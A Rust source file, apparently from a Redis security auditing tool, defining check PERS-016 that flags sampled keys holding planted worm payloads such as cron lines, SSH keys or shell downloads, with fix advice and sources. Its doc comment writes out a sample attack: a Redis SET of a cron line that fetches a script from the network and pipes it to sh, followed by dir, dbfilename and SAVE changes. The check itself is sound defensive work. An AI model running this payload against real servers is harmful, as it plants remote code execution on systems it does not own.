//! PERS-016.

use redan_model::{Evidence, Server};

use crate::control;
use crate::control::Context;
use crate::outcome::{Failure, Outcome};
use crate::support::{data_server, known, live};

control! {
    /// A sample of keys shows no traces of known attacks: cron lines, SSH keys or shell downloads in
    /// values, names such as `backup1` or `crackit`. Sampling is opt-in; only the kind of trace is
    /// reported, never a value.
    ///
    /// # Why
    /// Worms leave the payload that they wanted to be dumped to disk in the key space. Finding it
    /// means that somebody could write here, and perhaps still can.
    ///
    /// # Attack
    /// `SET backup1 "\n\n*/2 * * * * root cd1 -fsSL http://… | sh\n\n"`, then a change of `dir`,
    /// `dbfilename` and a `SAVE`.
    ///
    /// # Fix
    /// Treat it as an incident: cut the server off, save a copy as evidence, look for cron lines,
    /// SSH keys, modules and functions, close the way in (AUTH-001, NET-005), restore from a backup
    /// that is older than the key, rotate every secret.
    ///
    /// # Sources
    /// - Salvatore Sanfilippo, "A few things about Redis security" (<http://antirez.com/news/96>)
    /// - Datadog detection rule def-000-21l (<https://docs.datadoghq.com/security/default_rules/def-000-21l/>)
    "PERS-016", "attack-traces-in-keys";
    title: "Keys carry the traces of a known attack",
    severity: Critical, aspect: Data,
    owasp: ["A08:2021", "A09:2021"], iso27001: ["A.8.7", "A.8.16", "A.5.26"], pci: ["5.2.1", "12.10.1"], nist_csf: ["DE.AE-02", "RS.MA-01"], ley1581: ["art. 17 n"],
    consequence_of: [],
    check: Server(check),
}

fn check(server: &Server, _: &Context<'_>) -> Result<Outcome, Outcome> {
    data_server(server)?;
    let sample = known(&live(server)?.sample)?;
    if sample.indicators.is_empty() {
        return Ok(Outcome::Pass);
    }
    let message = format!(
        "{} of {} sampled keys look like a planted payload",
        sample.indicators.len(),
        sample.looked_at
    );
    let failure = Failure::new("keys", message);
    let traces = sample.indicators.iter().take(5);
    Ok(traces
        .fold(failure, |failure, trace| failure.with(Evidence::live("SCAN", trace.as_str())))
        .into())
}
